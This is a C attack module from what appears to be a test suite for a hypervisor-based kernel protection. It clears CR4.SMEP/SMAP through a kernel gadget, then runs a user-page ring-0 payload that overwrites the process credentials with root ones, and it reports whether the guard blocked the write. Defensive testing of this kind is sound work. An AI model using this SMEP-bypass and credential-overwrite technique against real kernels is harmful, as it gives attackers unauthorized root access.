/*
 * Control-register attacks (docs/attacks.md, family 1-3): switch a CPU protection off through a
 * kernel gadget reached with the vulnerable driver's controlled call, then use the gap.
 */
#include "lib/x86.h"
#include "vbs/user/ulib.h"

/* What the ring-0 payload needs: it runs at a user address with CPL 0 (only possible with SMEP off). */
struct smep_ctx {
    u64 cred_slot;   /* &current->cred */
    u64 root_cred;   /* cred_root */
    u64 ran;         /* set by the payload */
};
#define PAYLOAD_RAN 0x72696e672d30ull /* "ring-0" */

/* commit_creds(root) in miniature: runs in ring 0 from a user page. */
static u64 smep_payload(u64 arg)
{
    struct smep_ctx *c = (struct smep_ctx *)arg;
    *(volatile u64 *)c->cred_slot = c->root_cred;
    c->ran = PAYLOAD_RAN;
    return 0;
}

/*
 * cr4-smep: LKDTM UNSET_SMEP / the classic "native_write_cr4(0x6f0)" ROP step: clear CR4.SMEP (and
 * SMAP, so the payload can read its context) through a "mov %rdi,%cr4; ret" gadget, then have the
 * kernel call a payload in a user page.  Success: the payload ran in ring 0 and we are uid 0.
 */
static int attack_cr4_smep(const char *args)
{
    (void)args;
    u64 gadget = ksym("gadget_write_cr4"), cr4 = kread(ksym("cr4_shadow"));
    u64 cur = kread(ksym("current")), root = kread(ksym("cred_root"));
    if (!gadget || !cur || !root)
        attack_error("missing symbols");
    if (!(cr4 & CR4_SMEP))
        attack_error("SMEP is not on (cr4=0x%lx): nothing to defeat", cr4);
    struct smep_ctx *c = (struct smep_ctx *)U_SCRATCH;
    *c = (struct smep_ctx){cur + __builtin_offsetof(struct proc, cred), root, 0};
    u64 want = cr4 & ~(u64)(CR4_SMEP | CR4_SMAP);
    u_printf("  attack: uid %ld; CR4 0x%lx -> 0x%lx through gadget_write_cr4 at 0x%lx\n", u_getuid(), cr4, want,
             gadget);
    kcall(gadget, want); /* with HyperGuard: VTL1 intercepts the CR4 write and injects #GP: we are killed */
    kcall((u64)smep_payload, (u64)c);
    long uid = u_getuid();
    if (c->ran == PAYLOAD_RAN && uid == 0)
        attack_succeeded("ring-0 payload at user address 0x%lx ran (SMEP off); uid is now 0", (u64)smep_payload);
    attack_blocked("payload did not take effect (ran=0x%lx, uid %ld)", c->ran, uid);
}
UATTACK("cr4-smep", attack_cr4_smep);
